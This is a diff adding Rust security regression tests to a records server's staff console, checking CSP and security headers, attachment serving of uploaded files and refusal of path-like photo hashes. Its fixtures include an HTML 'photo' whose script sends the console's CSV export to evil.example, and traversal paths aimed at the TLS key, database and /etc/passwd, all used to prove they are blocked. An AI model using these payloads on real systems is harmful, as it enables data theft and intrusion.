@@ -97,11 +97,10 @@ fn data_folder() -> (tempfile::TempDir, String, String, String) {
         a.attach_photo(&pa, 1_747_900_001_000 + i as i64, &photo, &p.thumbnail)
             .unwrap();
         if i == 0 {
-            use sanjin_server::BlobStore;
-            let blobs = sanjin_server::FsBlobStore::new(tmp.path().join("blobs")).unwrap();
-            blobs.append(&p.hash, 0, &original).unwrap();
-            blobs.flush(&p.hash).unwrap();
-            blobs.publish(&p.hash).unwrap();
+            // Issue 10: an original is served only to readers whose scope proved possession
+            // of it; the operator's import stands for group-01's upload.
+            let h = data.import_blob(&original, Some("group-01")).unwrap();
+            assert_eq!(h.to_hex(), p.hash);
         }
     }
     data.import_docs(&mut [a]).unwrap();
@@ -116,7 +115,14 @@ struct Chromium {
     session: String,
     next: u64,
     _profile: tempfile::TempDir,
+    /// Content-Security-Policy violations the pages reported (issue 10), from every source
+    /// DevTools offers: the page's `securitypolicyviolation` events (a listener injected into
+    /// every document reports them on the console), console log entries and DevTools issues.
+    violations: Vec<String>,
 }
+
+/// Injected into every document before anything else runs: reports each CSP violation.
+const CSP_LISTENER: &str = "document.addEventListener('securitypolicyviolation', e => console.error('CSP violation: ' + e.violatedDirective + ' blocked ' + (e.blockedURI || '(inline)') + ' in ' + e.documentURI));";
 
 impl Drop for Chromium {
     fn drop(&mut self) {
@@ -189,6 +195,7 @@ impl Chromium {
             session: String::new(),
             next: 0,
             _profile: profile,
+            violations: Vec::new(),
         };
         c.call(
             None,
@@ -204,7 +211,54 @@ impl Chromium {
         c.session = session["sessionId"].as_str().unwrap().to_string();
         c.page("Page.enable", json!({}));
         c.page("Runtime.enable", json!({}));
+        c.page("Log.enable", json!({}));
+        c.page("Audits.enable", json!({}));
+        c.page(
+            "Page.addScriptToEvaluateOnNewDocument",
+            json!({"source": CSP_LISTENER}),
+        );
         c
+    }
+
+    /// Keeps what an event says about a CSP violation.
+    fn note_event(&mut self, v: &Value) {
+        let p = &v["params"];
+        let found = match v["method"].as_str() {
+            Some("Runtime.consoleAPICalled") => p["args"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .filter_map(|a| a["value"].as_str())
+                .find(|t| t.starts_with("CSP violation"))
+                .map(str::to_string),
+            Some("Log.entryAdded") => p["entry"]["text"]
+                .as_str()
+                .filter(|t| {
+                    t.contains("Content Security Policy") || t.contains("Content-Security-Policy")
+                })
+                .map(|t| format!("log: {t}")),
+            Some("Audits.issueAdded") => (p["issue"]["code"] == "ContentSecurityPolicyIssue")
+                .then(|| format!("issue: {}", p["issue"]["details"])),
+            _ => None,
+        };
+        if let Some(f) = found {
+            self.violations.push(f);
+        }
+    }
+
+    /// The CSP violations reported so far (after reading every event already sent), cleared.
+    fn take_violations(&mut self) -> Vec<String> {
+        // Violations are reported asynchronously: give the page a moment, then a round trip
+        // that reads every event queued before its answer.
+        std::thread::sleep(Duration::from_millis(300));
+        self.eval("true");
+        std::mem::take(&mut self.violations)
+    }
+
+    /// Fails the test if any page reported a CSP violation (issue 10).
+    fn assert_no_csp_violations(&mut self, when: &str) {
+        let v = self.take_violations();
+        assert!(v.is_empty(), "CSP violations {when}: {v:#?}");
     }
 
     fn call(&mut self, session: Option<&str>, method: &str, params: Value) -> Value {
@@ -227,6 +281,7 @@ impl Chromium {
                 assert!(v.get("error").is_none(), "{method}: {v}");
                 return v["result"].clone();
             }
+            self.note_event(&v);
         }
     }
 
@@ -244,7 +299,9 @@ impl Chromium {
         r["result"]["value"].clone()
     }
 
+    /// Opens `url`; first fails the test if the page being left reported a CSP violation.
     fn goto(&mut self, url: &str) {
+        self.assert_no_csp_violations(&format!("before opening {url}"));
         self.page("Page.navigate", json!({"url": url}));
         self.wait("document.readyState === 'complete' && location.href !== 'about:blank'");
     }
@@ -433,17 +490,17 @@ fn issue_5_console_in_headless_chromium() {
         c.eval("document.querySelectorAll('#photos a.original').length"),
         json!(1)
     );
-    // The original opens in the browser: a JPEG of the original's size.
+    // The original opens in the browser: a JPEG of the original's size. (Loaded as an image:
+    // the console's policy allows no script to fetch, issue 10.)
     let href = c.eval("document.querySelector('#photos a.original').href");
-    let (status, len) = {
+    let (width, len) = {
         let js = format!(
-            "fetch({}).then(r => r.arrayBuffer().then(b => [r.status, b.byteLength]))",
-            href
+            "new Promise(done => {{ const i = new Image(); i.onload = () => done([i.naturalWidth, performance.getEntriesByName(i.src)[0].decodedBodySize]); i.onerror = () => done([0, 0]); i.src = {href}; }})"
         );
         let v = c.eval(&js);
         (v[0].as_u64().unwrap(), v[1].as_u64().unwrap())
     };
-    assert_eq!(status, 200);
+    assert_eq!(width, 640, "the original's width, not the thumbnail's");
     assert!(len > 10_000, "the original, not a thumbnail: {len} bytes");
     c.screenshot(&shots.join("console-record.png"));
 
@@ -539,6 +596,7 @@ fn issue_5_console_in_headless_chromium() {
             .any(|c| matches!(c, calamine::Data::String(s) if s == "新华村人居环境座谈"))
     );
     c.screenshot(&shots.join("console-export.png"));
+    c.assert_no_csp_violations("on the export page");
     drop(c);
     rt.block_on(running.shutdown()).unwrap();
     eprintln!("screenshots in {}", shots.display());
@@ -820,4 +878,533 @@ async fn issue_5_console_access_by_role() {
     let (s, h, _) = send(&app, get("/console/dashboard", &cookie)).await;
     assert_eq!(s, StatusCode::SEE_OTHER);
     assert_eq!(h["location"], "/console/login");
+}
+
+// ------------------------------------------------------------------ issue 10
+
+mod common;
+
+use common::photos::{self, console_get, console_session};
+use common::{Harness, leader_of, members_of};
+
+/// The headers every console response carries (issue 10).
+fn assert_security_headers(what: &str, h: &axum::http::HeaderMap) {
+    let get = |k: &str| {
+        h.get(k)
+            .unwrap_or_else(|| panic!("{what}: no {k} header in {h:?}"))
+            .to_str()
+            .unwrap()
+            .to_string()
+    };
+    let csp = get("content-security-policy");
+    assert!(
+        csp == sanjin_server::console::CONTENT_SECURITY_POLICY
+            || csp == sanjin_server::console::MEDIA_CSP,
+        "{what}: {csp}"
+    );
+    for directive in [
+        "default-src 'none'",
+        "frame-ancestors 'none'",
+        "base-uri 'none'",
+        "form-action 'self'",
+    ] {
+        assert!(csp.contains(directive), "{what}: {csp}");
+    }
+    assert!(!csp.contains("unsafe"), "{what}: {csp}");
+    assert_eq!(get("x-content-type-options"), "nosniff", "{what}");
+    assert_eq!(get("x-frame-options"), "DENY", "{what}");
+    assert_eq!(
+        get("strict-transport-security"),
+        "max-age=31536000",
+        "{what}"
+    );
+    assert_eq!(get("referrer-policy"), "no-referrer", "{what}");
+}
+
+#[tokio::test]
+async fn issue10_text_html_photo_original_is_served_as_an_attachment() {
+    let h = Harness::live().await;
+    // A "photo" that is an HTML page with a script: on the console's origin it would act with
+    // the signed-in staff member's session.
+    let page = b"<!doctype html><html><body><script>fetch('/console/export/file?format=csv').then(r => r.blob()).then(b => navigator.sendBeacon('https://evil.example/', b))</script></body></html>".to_vec();
+    let member = members_of("group-01")[0].clone();
+    let dev = h.device(&member).await;
+    let hash = photos::upload(&h, &dev, &page).await;
+    // The record claiming it is text/html (its thumbnail HTML too), placed by an import: data
+    // from before the checks on a push.
+    let element =
+        json!({"hash": hash, "caption": "现场照片", "mime": "text/html", "bytes": page.len()});
+    let doc = photos::visit_with_raw_photos(
+        "group-01",
+        &member,
+        &[(hash.clone(), element, Some(page.clone()))],
+    );
+    let id = doc.id().to_string();
+    photos::place(&h, vec![doc]).await;
+    for who in ["office-01".to_string(), leader_of("group-01")] {
+        let cookie = console_session(&h, &who).await;
+        let record = console_get(&h, &format!("/console/records/{id}"), &cookie).await;
+        assert_eq!(record.status, StatusCode::OK, "{who}");
+        assert!(
+            String::from_utf8_lossy(&record.body).contains("class=\"original\""),
+            "{who}: the original is held for this reader"
+        );
+        for part in ["", "/thumb"] {
+            let r = console_get(
+                &h,
+                &format!("/console/records/{id}/photos/{hash}{part}"),
+                &cookie,
+            )
+            .await;
+            let what = format!("{who} {part}");
+            assert_eq!(r.status, StatusCode::OK, "{what}");
+            assert_eq!(
+                r.headers["content-type"], "application/octet-stream",
+                "{what}: never the type the record claims"
+            );
+            let disposition = r.headers["content-disposition"].to_str().unwrap();
+            assert!(
+                disposition.starts_with("attachment;"),
+                "{what}: {disposition}"
+            );
+            assert!(disposition.contains(".bin"), "{what}: {disposition}");
+            assert_security_headers(&what, &r.headers);
+            assert!(
+                r.headers["content-security-policy"]
+                    .to_str()
+                    .unwrap()
+                    .ends_with("sandbox"),
+                "{what}"
+            );
+            assert_eq!(&r.body[..], &page[..], "{what}: the bytes, as a download");
+        }
+    }
+    // The device route too: opaque bytes, a download, never sniffed.
+    let r = common::photos::put_blob(&h, &dev, &hash, 0, 0, b"").await;
+    assert_eq!(r.json()["state"], "complete");
+    let r = h
+        .get(
+            &format!("/v1/records/{id}/blobs/{hash}"),
+            Some(&dev.bearer()),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::OK);
+    assert_eq!(r.headers["content-type"], "application/octet-stream");
+    assert_eq!(r.headers["x-content-type-options"], "nosniff");
+    assert!(
+        r.headers["content-disposition"]
+            .to_str()
+            .unwrap()
+            .starts_with("attachment")
+    );
+}
+
+/// Percent-encodes a path segment (slashes included).
+fn segment(s: &str) -> String {
+    s.bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
+                (b as char).to_string()
+            }
+            b => format!("%{b:02X}"),
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn issue10_path_like_hash_is_refused_and_never_reads_outside_blobs() {
+    let h = Harness::live().await;
+    let data = h.dir.path().join("data");
+    // The server's TLS private key (self-signed mode) and its database: what the attack read.
+    let key_path = data.join("tls").join("key.pem");
+    let key = std::fs::read_to_string(&key_path).unwrap();
+    assert!(key.contains("PRIVATE KEY"));
+    let hostile = [
+        key_path.to_str().unwrap().to_string(),
+        "./../tls/key.pem".to_string(),
+        "./../sanjin.sqlite".to_string(),
+        "../../../../../../../etc/passwd".to_string(),
+        format!("{}/../../tls/key.pem", "a".repeat(40)),
+        "/etc/ssl/private/ssl-cert-snakeoil.key".to_string(),
+    ];
+    let member = members_of("group-01")[0].clone();
+    let dev = h.device(&member).await;
+    // One genuine photo, uploaded by the group, beside the hostile references.
+    let good = photos::photo(201);
+    photos::upload(&h, &dev, &good.original).await;
+    let mut refs: Vec<(String, serde_json::Value, Option<Vec<u8>>)> = hostile
+        .iter()
+        .map(|p| {
+            (
+                p.clone(),
+                json!({"hash": p, "mime": "image/jpeg", "caption": "路径"}),
+                Some(good.thumbnail.clone()),
+            )
+        })
+        .collect();
+    refs.push((
+        good.hash.clone(),
+        serde_json::to_value(good.reference("真照片")).unwrap(),
+        Some(good.thumbnail.clone()),
+    ));
+    let doc = photos::visit_with_raw_photos("group-01", &member, &refs);
+    let id = doc.id().to_string();
+    photos::place(&h, vec![doc]).await;
+
+    let staff = console_session(&h, "office-01").await;
+    let page = console_get(&h, &format!("/console/records/{id}"), &staff).await;
+    assert_eq!(page.status, StatusCode::OK);
+    let html = String::from_utf8_lossy(&page.body).to_string();
+    assert_eq!(
+        html.matches("照片引用无效").count(),
+        hostile.len(),
+        "each hostile reference is shown as invalid"
+    );
+    assert_eq!(
+        html.matches("class=\"original\"").count(),
+        1,
+        "only the real photo links"
+    );
+    for p in &hostile {
+        assert!(!html.contains(&format!("/photos/{}", segment(p))), "{p}");
+    }
+    let secrets = |body: &[u8]| {
+        let t = String::from_utf8_lossy(body);
+        t.contains("PRIVATE KEY") || t.contains("SQLite format") || t.contains("root:")
+    };
+    for p in &hostile {
+        for part in ["", "/thumb"] {
+            let path = format!("/console/records/{id}/photos/{}{part}", segment(p));
+            let r = console_get(&h, &path, &staff).await;
+            assert_eq!(r.status, StatusCode::NOT_FOUND, "{path}");
+            assert!(!secrets(&r.body), "{path}");
+            assert_security_headers(&path, &r.headers);
+        }
+        let path = format!("/v1/records/{id}/blobs/{}", segment(p));
+        let r = h.get(&path, Some(&dev.bearer())).await;
+        assert_eq!(
+            (r.status, r.error()),
+            (StatusCode::BAD_REQUEST, "bad_message".into()),
+            "{path}"
+        );
+        assert!(!secrets(&r.body), "{path}");
+        let r = h
+            .get(&format!("/v1/blobs/{}", segment(p)), Some(&dev.bearer()))
+            .await;
+        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{p}");
+    }
+    // Unencoded, the path is no console page at all.
+    let r = console_get(
+        &h,
+        &format!("/console/records/{id}/photos/{}", key_path.display()),
+        &staff,
+    )
+    .await;
+    assert_eq!(r.status, StatusCode::NOT_FOUND);
+    assert!(!secrets(&r.body));
+    assert_security_headers("an unknown console path", &r.headers);
+    // The genuine photo still opens.
+    let r = console_get(
+        &h,
+        &format!("/console/records/{id}/photos/{}", good.hash),
+        &staff,
+    )
+    .await;
+    assert_eq!(r.status, StatusCode::OK);
+    assert_eq!(r.headers["content-type"], "image/jpeg");
+    assert_eq!(&r.body[..], &good.original[..]);
+}
+
+#[tokio::test]
+async fn issue10_every_console_response_carries_the_security_headers() {
+    let h = Harness::live().await;
+    let member = members_of("group-01")[0].clone();
+    let dev = h.device(&member).await;
+    let p = photos::photo(301);
+    photos::upload(&h, &dev, &p.original).await;
+    let doc = photos::visit_with_raw_photos(
+        "group-01",
+        &member,
+        &[(
+            p.hash.clone(),
+            serde_json::to_value(p.reference("座谈")).unwrap(),
+            Some(p.thumbnail.clone()),
+        )],
+    );
+    let id = doc.id().to_string();
+    let other = photos::visit_with_raw_photos("group-02", &members_of("group-02")[0], &[]);
+    let other_id = other.id().to_string();
+    photos::place(&h, vec![doc, other]).await;
+    let staff = console_session(&h, "office-01").await;
+    let leader = console_session(&h, &leader_of("group-01")).await;
+    let form = |path: &str, body: String, cookie: Option<&str>| {
+        let mut b = Request::post(path).header("content-type", "application/x-www-form-urlencoded");
+        if let Some(c) = cookie {
+            b = b.header("cookie", c);
+        }
+        b.body(Body::from(body)).unwrap()
+    };
+    let page = console_get(&h, &format!("/console/records/{id}"), &staff).await;
+    let csrf = String::from_utf8_lossy(&page.body)
+        .split("name=\"csrf\" value=\"")
+        .nth(1)
+        .unwrap()
+        .split('"')
+        .next()
+        .unwrap()
+        .to_string();
+    let mut seen = Vec::new();
+    let mut check = |what: &str, r: common::Reply, status: StatusCode| {
+        assert_eq!(r.status, status, "{what}");
+        assert_security_headers(what, &r.headers);
+        seen.push(status.as_u16());
+    };
+    // Signed out.
+    for (path, status) in [
+        ("/console", StatusCode::SEE_OTHER),
+        ("/console/", StatusCode::SEE_OTHER),
+        ("/console/login", StatusCode::OK),
+        ("/console/dashboard", StatusCode::SEE_OTHER),
+        ("/console/style.css", StatusCode::OK),
+        ("/console/no-such-page", StatusCode::NOT_FOUND),
+    ] {
+        check(path, h.get(path, None).await, status);
+    }
+    let css = h.get("/console/style.css", None).await;
+    assert!(
+        css.headers["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("text/css")
+    );
+    check(
+        "a wrong password",
+        h.call(form(
+            "/console/login",
+            "account=office-01&password=wrong-pass".into(),
+            None,
+        ))
+        .await,
+        StatusCode::UNAUTHORIZED,
+    );
+    check(
+        "an empty sign-in",
+        h.call(form("/console/login", String::new(), None)).await,
+        StatusCode::BAD_REQUEST,
+    );
+    check(
+        "a POST to a page",
+        h.call(form("/console/dashboard", String::new(), None))
+            .await,
+        StatusCode::METHOD_NOT_ALLOWED,
+    );
+    // Signed in.
+    for (path, cookie, status) in [
+        (
+            "/console/dashboard?q=2025-2".to_string(),
+            &staff,
+            StatusCode::OK,
+        ),
+        (
+            "/console/dashboard?q=nonsense".to_string(),
+            &staff,
+            StatusCode::BAD_REQUEST,
+        ),
+        (
+            "/console/records?kind=visit".to_string(),
+            &staff,
+            StatusCode::OK,
+        ),
+        (format!("/console/records/{id}"), &staff, StatusCode::OK),
+        (
+            "/console/records/no-such-record".to_string(),
+            &staff,
+            StatusCode::NOT_FOUND,
+        ),
+        (
+            format!("/console/records/{other_id}"),
+            &leader,
+            StatusCode::FORBIDDEN,
+        ),
+        (
+            format!("/console/records/{id}/photos/{}/thumb", p.hash),
+            &staff,
+            StatusCode::OK,
+        ),
+        (
+            format!("/console/records/{id}/photos/{}", p.hash),
+            &leader,
+            StatusCode::OK,
+        ),
+        (
+            format!("/console/records/{id}/photos/{}", "0".repeat(64)),
+            &staff,
+            StatusCode::NOT_FOUND,
+        ),
+        (
+            format!("/console/records/{id}/photos/not-a-hash"),
+            &staff,
+            StatusCode::NOT_FOUND,
+        ),
+        ("/console/export".to_string(), &leader, StatusCode::OK),
+        (
+            "/console/export/file?from=2025-01-01&to=2025-12-31&format=csv".to_string(),
+            &leader,
+            StatusCode::OK,
+        ),
+        (
+            "/console/export/file?from=2025-12-31&to=2025-01-01".to_string(),
+            &staff,
+            StatusCode::BAD_REQUEST,
+        ),
+    ] {
+        check(&path, console_get(&h, &path, cookie).await, status);
+    }
+    check(
+        "a resolve without its token",
+        h.call(form(
+            &format!("/console/records/{id}/resolve"),
+            "field=title".into(),
+            Some(&staff),
+        ))
+        .await,
+        StatusCode::FORBIDDEN,
+    );
+    check(
+        "a resolve with nothing to resolve",
+        h.call(form(
+            &format!("/console/records/{id}/resolve"),
+            format!("csrf={csrf}&field=title"),
+            Some(&staff),
+        ))
+        .await,
+        StatusCode::BAD_REQUEST,
+    );
+    check(
+        "sign-out",
+        h.call(form(
+            "/console/logout",
+            format!("csrf={csrf}"),
+            Some(&staff),
+        ))
+        .await,
+        StatusCode::SEE_OTHER,
+    );
+    seen.sort_unstable();
+    seen.dedup();
+    assert_eq!(
+        seen,
+        vec![200, 303, 400, 401, 403, 404, 405],
+        "every kind of answer was checked"
+    );
+}
+
+#[test]
+fn issue10_chromium_fails_on_csp_violations_and_never_renders_a_text_html_photo() {
+    let tmp = tempfile::tempdir().unwrap();
+    // A visit whose "photo" is an HTML page with a script, claimed to be text/html.
+    let html = b"<!doctype html><title>x</title><script>document.title = 'ran'</script>".to_vec();
+    let hash = sanjin_media::hash(&html);
+    let visit = {
+        let mut data = ServerData::open(tmp.path()).unwrap();
+        data.add_staff(STAFF, "王秘书", Role::Staff).unwrap();
+        sanjin_server::console::set_password(&mut data, STAFF, STAFF_PASSWORD).unwrap();
+        let doc = photos::visit_with_raw_photos(
+            "group-01",
+            "member-0001",
+            &[(
+                hash.clone(),
+                json!({"hash": hash, "mime": "text/html", "caption": "网页"}),
+                None,
+            )],
+        );
+        let id = doc.id().to_string();
+        data.import_docs(&mut [doc]).unwrap();
+        data.import_blob(&html, Some("group-01")).unwrap();
+        id
+    };
+    let rt = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(2)
+        .enable_all()
+        .build()
+        .unwrap();
+    let config = Config::new(
+        tmp.path(),
+        "127.0.0.1:0".parse().unwrap(),
+        TlsMode::SelfSigned { hostnames: vec![] },
+    );
+    let running = rt.block_on(spawn(config)).unwrap();
+    let base = running.url();
+    let downloads = tempfile::tempdir().unwrap();
+    let mut c = Chromium::start(downloads.path());
+    c.goto(&format!("{base}/console/login"));
+    c.wait("document.getElementById('signin')");
+    // The served stylesheet applies (no inline style is needed or allowed).
+    assert_eq!(
+        c.eval("getComputedStyle(document.querySelector('header')).backgroundColor"),
+        json!("rgb(163, 25, 31)")
+    );
+    // Signing in works under the policy (and `Referrer-Policy: no-referrer`).
+    c.eval(&format!(
+        "document.getElementById('account').value = '{STAFF}'; document.getElementById('password').value = '{STAFF_PASSWORD}'; document.getElementById('signin').click(); true"
+    ));
+    c.wait("location.pathname === '/console/dashboard' && document.getElementById('stats')");
+    c.assert_no_csp_violations("on the sign-in and dashboard pages");
+    // The text/html "original", opened from the record page, is a download: the browser never
+    // renders it, its script never runs on the console's origin.
+    c.goto(&format!("{base}/console/records/{visit}"));
+    c.wait("document.querySelector('#photos a.original')");
+    let before = c.eval("location.pathname + ' ' + document.title");
+    c.eval("document.querySelector('#photos a.original').click(); true");
+    let started = Instant::now();
+    let file = loop {
+        let done: Vec<PathBuf> = std::fs::read_dir(downloads.path())
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .filter(|p| p.extension().is_some_and(|e| e == "bin"))
+            .collect();
+        if let Some(f) = done.first() {
+            break f.clone();
+        }
+        assert!(started.elapsed() < Duration::from_secs(30), "no download");
+        std::thread::sleep(Duration::from_millis(100));
+    };
+    assert_eq!(std::fs::read(&file).unwrap(), html);
+    std::thread::sleep(Duration::from_millis(300));
+    assert_eq!(
+        c.eval("location.pathname + ' ' + document.title"),
+        before,
+        "still on the record page; nothing rendered"
+    );
+    assert!(
+        before
+            .as_str()
+            .unwrap()
+            .starts_with(&format!("/console/records/{visit} "))
+    );
+    c.assert_no_csp_violations("on the record page");
+    // What a page that broke the policy would do is caught: an inline style, a foreign image,
+    // a script's request, an inline script.
+    c.eval(
+        "document.body.insertAdjacentHTML('beforeend', '<div id=\"x\" style=\"color:red\">x</div><img src=\"https://example.invalid/x.png\">'); true",
+    );
+    assert_eq!(
+        c.eval("fetch('/console/dashboard').then(() => 'fetched', () => 'refused')"),
+        json!("refused")
+    );
+    c.eval("const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.appendChild(s); true");
+    assert_eq!(
+        c.eval("window.ran === undefined"),
+        json!(true),
+        "no inline script runs"
+    );
+    let v = c.take_violations();
+    for directive in ["style-src", "img-src", "connect-src", "script-src"] {
+        assert!(
+            v.iter().any(|x| x.contains(directive)),
+            "a {directive} violation is reported: {v:#?}"
+        );
+    }
+    drop(c);
+    rt.block_on(running.shutdown()).unwrap();
 }
